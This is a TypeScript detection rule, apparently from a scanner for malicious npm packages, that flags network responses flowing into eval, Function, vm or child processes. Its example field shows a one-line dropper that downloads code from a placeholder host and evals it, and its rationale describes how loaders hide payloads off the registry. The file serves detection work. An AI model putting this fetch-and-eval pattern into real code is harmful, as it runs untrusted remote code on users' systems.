import type { JsRule } from '../engine.js';
import { fixedRemoteUrl } from '../taint.js';
import { flowEvidence, onSinks } from './flow-common.js';
import { js } from './helpers.js';

/** Data flow: a network response is run as code or as a command. */
export const remoteCode: JsRule = {
  meta: {
    ...js,
    id: 'JS-012',
    name: 'remote-code-execution-flow',
    category: 'dropper',
    severity: 'critical',
    confidence: 'high',
    description:
      'A network response flows into eval, Function, vm, require or a child process: code fetched at run time is executed.',
    rationale:
      'Loaders keep their real payload off the registry and fetch it (often from paste sites or raw IPs) when installed, so no static scan of the package sees it.',
    falsePositives:
      "Plugin systems and dev-server runtimes that download and evaluate code by design (react-native-worklets' lazy bundles, fengari's browser loader, partytown). The evidence records `fixedUrl` when the address is a constant; in runtime JavaScript without one the finding stays critical but the `remote-code` chain (a malicious floor) does not apply.",
    example:
      "https.get('https://x.invalid/p', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
    references: [
      'https://attack.mitre.org/techniques/T1105/',
      'https://attack.mitre.org/techniques/T1059/007/',
    ],
  },
  create(ctx) {
    return onSinks(ctx, ['remote'], ['code', 'exec'], (node, sink, sources) => {
      ctx.facts.capabilities.add('remote-code');
      ctx.report({
        node,
        message: `Runs data fetched from the network (${sources.map((s) => s.what).join(', ')}) with ${sink.callee}.`,
        // `fixedUrl`: the code comes from a constant address (a loader's server), not from a URL
        // the application computes (a dev server's lazy bundles); scoring weighs the two apart.
        evidence: { ...flowEvidence(ctx, node, sink, sources), fixedUrl: fixedRemoteUrl(sources) },
      });
    });
  },
};
